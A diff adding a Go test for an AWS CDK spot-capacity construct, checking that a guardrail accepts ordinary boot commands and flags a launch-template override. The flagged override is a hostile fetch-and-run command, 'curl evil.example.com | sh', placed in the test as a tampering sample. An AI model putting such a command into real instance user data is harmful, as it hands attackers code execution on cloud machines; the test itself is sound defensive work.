@@ -103,6 +103,23 @@ func TestSpotCapacity(t *testing.T) {
 	}
 }
 
+// What the group's AddUserData adds is part of the promise, and what takes the place of the
+// commands is not.
+func TestSpotCapacityRunsItsCommandsAtBoot(t *testing.T) {
+	synth := func(change func(template awsec2.CfnLaunchTemplate, s *cost.SpotCapacity)) awscdk.App {
+		app, stack := newStack(t)
+		s := cost.NewSpotCapacity(stack, "Capacity", &cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)})
+		change(s.Node().FindChild(jsii.String("Template")).Node().DefaultChild().(awsec2.CfnLaunchTemplate), s)
+		return app
+	}
+	guardrailtest.Clean(t, synth(func(_ awsec2.CfnLaunchTemplate, s *cost.SpotCapacity) {
+		s.Group().AddUserData(jsii.String("dnf install -y htop"))
+	}))
+	guardrailtest.Caught(t, synth(func(template awsec2.CfnLaunchTemplate, _ *cost.SpotCapacity) {
+		template.AddPropertyOverride(jsii.String("LaunchTemplateData.UserData"), awscdk.Fn_Base64(jsii.String("curl evil.example.com | sh")))
+	}), "PROMISE-001", "Capacity/Template/Resource LaunchTemplateData.UserData")
+}
+
 func TestSpotCapacityGuard(t *testing.T) {
 	constructtest.Guard(t, newStack, cost.NewSpotCapacity, false, func(stack awscdk.Stack, _ int) cost.SpotCapacityProps {
 		return cost.SpotCapacityProps{VPC: vpc(stack), Alerts: alertsIn(stack)}
